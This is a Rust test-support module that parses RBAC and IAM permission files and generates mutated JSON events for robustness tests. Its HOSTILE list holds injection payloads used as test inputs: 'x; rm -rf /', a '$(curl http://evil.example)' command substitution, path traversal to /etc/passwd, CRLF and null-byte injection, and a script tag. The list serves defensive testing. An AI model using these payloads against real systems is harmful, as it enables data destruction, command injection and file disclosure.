//! Generators and readers for tests, here and in other crates (feature `testing`).

use std::collections::BTreeSet;

use serde_json::{Map, Value, json};

/// Every right in the text of a function's `rbac.yaml`: API group, resource, verb. `None` when it has none, or when a rule is
/// written in other than the three lines in which all of ours are.
#[must_use]
pub fn rights(rbac: &str) -> Option<BTreeSet<[&str; 3]>> {
    let mut lines = rbac.lines().filter(|line| !line.starts_with('#'));
    let mut rights = BTreeSet::new();
    while let Some(groups) = lines.next() {
        let (resources, verbs) = (lines.next()?, lines.next()?);
        for group in words(groups, "- apiGroups: [")? {
            for resource in words(resources, "  resources: [")? {
                for verb in words(verbs, "  verbs: [")? {
                    rights.insert([group, resource, verb]);
                }
            }
        }
    }
    (!rights.is_empty()).then_some(rights)
}

/// All that a function is granted, from the texts of its `permissions.json` (`Statement`) and `rbac.yaml`: each action of IAM, and
/// each verb with its resource, as `list pods`. `None` when one of them is written in another way than all of ours.
#[must_use]
pub fn granted(permissions: &str, rbac: &str) -> Option<BTreeSet<String>> {
    let document: Value = serde_json::from_str(permissions).ok()?;
    let mut granted = BTreeSet::new();
    for statement in document.get("Statement")?.as_array()? {
        for action in statement.get("Action")?.as_array()? {
            granted.insert(action.as_str()?.to_owned());
        }
    }
    let rights = rights(rbac)?;
    granted.extend(
        rights
            .iter()
            .map(|[_, resource, verb]| format!("{verb} {resource}")),
    );
    Some(granted)
}

/// The words in the brackets of a line that begins with `field`.
fn words<'a>(line: &'a str, field: &str) -> Option<Vec<&'a str>> {
    let list = line.strip_prefix(field)?.strip_suffix(']')?;
    Some(list.split(", ").map(|word| word.trim_matches('"')).collect())
}

/// Every way in which one field of `event` can be missing or wrong (`cases.md` E04): for each value inside it,
/// removed, null, of each other JSON type, emptied, and, for texts, hostile. The label says where and what, for
/// example `/detail/state/value: null`.
///
/// Texts that hold JSON themselves (SNS messages) are mutated inside too.
pub fn mutations(event: &Value) -> impl Iterator<Item = (String, Value)> {
    let mut all = Vec::new();
    visit(event, "", &mut |label, value| all.push((label, value)));
    all.into_iter()
}

/// Texts that must never get into a path, a selector, a key or a line.
pub const HOSTILE: [&str; 8] = [
    "x; rm -rf /",
    "$(curl http://evil.example)",
    "../../etc/passwd",
    "%2e%2e/%2e%2e/",
    "a\0b",
    "a\r\nb",
    "\u{202e}txt.exe",
    "<script>alert(1)</script>",
];

/// Reports each mutation of `value` to `report`, which gets it as it looks with everything around it.
fn visit(value: &Value, path: &str, report: &mut dyn FnMut(String, Value)) {
    for (what, mutant) in replacements(value) {
        report(format!("{path}: {what}"), mutant);
    }
    match value {
        Value::Object(members) => {
            for (key, member) in members {
                let mut without = members.clone();
                without.remove(key);
                report(format!("{path}/{key}: removed"), Value::Object(without));
                visit(member, &format!("{path}/{key}"), &mut |label, mutant| {
                    report(label, with(members, key, mutant));
                });
            }
        }
        Value::Array(elements) => {
            for (index, element) in elements.iter().enumerate() {
                let put = |mutant: Option<Value>| {
                    let mut changed = elements.clone();
                    changed.splice(index..=index, mutant);
                    Value::Array(changed)
                };
                report(format!("{path}/{index}: removed"), put(None));
                report(
                    format!("{path}/{index}: twice"),
                    put(None).as_array().map_or(Value::Null, |rest| {
                        let mut twice = rest.clone();
                        twice.extend([element.clone(), element.clone()]);
                        Value::Array(twice)
                    }),
                );
                visit(element, &format!("{path}/{index}"), &mut |label, mutant| {
                    report(label, put(Some(mutant)));
                });
            }
        }
        Value::String(text) if text.starts_with('{') => {
            if let Ok(inner) = serde_json::from_str::<Value>(text) {
                visit(&inner, &format!("{path}/(json)"), &mut |label, mutant| {
                    report(label, Value::String(mutant.to_string()));
                });
            }
        }
        _ => {}
    }
}

fn with(members: &Map<String, Value>, key: &str, value: Value) -> Value {
    let mut changed = members.clone();
    changed.insert(key.to_owned(), value);
    Value::Object(changed)
}

fn replacements(value: &Value) -> Vec<(String, Value)> {
    let others = [
        ("null", Value::Null),
        ("true", json!(true)),
        ("false", json!(false)),
        ("a number", json!(7)),
        ("a huge number", json!(1e300)),
        ("a negative number", json!(-1)),
        ("an empty text", json!("")),
        ("a text", json!("text")),
        ("an empty list", json!([])),
        ("a list", json!([value])),
        ("an empty object", json!({})),
        ("an object", json!({"value": value})),
    ];
    let mut all: Vec<(String, Value)> = others
        .into_iter()
        .filter(|(_, other)| other != value)
        .map(|(what, other)| (what.to_owned(), other))
        .collect();
    if value.is_string() {
        all.extend(
            HOSTILE
                .iter()
                .map(|text| (format!("the text {text:?}"), json!(text))),
        );
        all.push(("a text of 300 characters".to_owned(), json!("a".repeat(300))));
    }
    if let Some(text) = value.as_str() {
        all.push(("upper case".to_owned(), json!(text.to_uppercase())));
        all.push(("with a blank in front".to_owned(), json!(format!(" {text}"))));
    }
    all
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rights_are_read_whole_or_not_at_all() {
        let rule = "- apiGroups: [\"\"]\n  resources: [pods, nodes]\n  verbs: [get, list]\n";
        let read = rights(rule).unwrap();
        assert_eq!(read.len(), 4);
        assert!(read.contains(&["", "nodes", "list"]), "{read:?}");
        for broken in [
            "",
            "# nothing",
            rule.trim_start_matches("- "),
            &rule.replace("]\n  verbs", "\n  verbs"),
        ] {
            assert_eq!(rights(broken), None, "{broken}");
        }
    }

    #[test]
    fn every_field_is_removed_nulled_and_retyped_also_inside_json_in_a_text() {
        let event = json!({"a": {"b": [1, "x"]}, "m": "{\"n\":true}"});
        let all: Vec<(String, Value)> = mutations(&event).collect();
        let find = |label: &str| {
            all.iter()
                .find(|(known, _)| known == label)
                .map(|(_, value)| value.to_string())
        };
        assert_eq!(
            find("/a/b/1: removed").as_deref(),
            Some(r#"{"a":{"b":[1]},"m":"{\"n\":true}"}"#)
        );
        assert_eq!(
            find("/a: null").as_deref(),
            Some(r#"{"a":null,"m":"{\"n\":true}"}"#)
        );
        assert_eq!(
            find("/m/(json)/n: removed").as_deref(),
            Some(r#"{"a":{"b":[1,"x"]},"m":"{}"}"#)
        );
        assert!(find("/a/b/0: a text").is_some() && find("/a/b/1: upper case").is_some());
        assert!(all.iter().all(|(_, mutant)| *mutant != event));
        let mut labels: Vec<&String> = all.iter().map(|(label, _)| label).collect();
        labels.sort();
        labels.dedup();
        assert_eq!(labels.len(), all.len(), "labels are unique");
    }
}
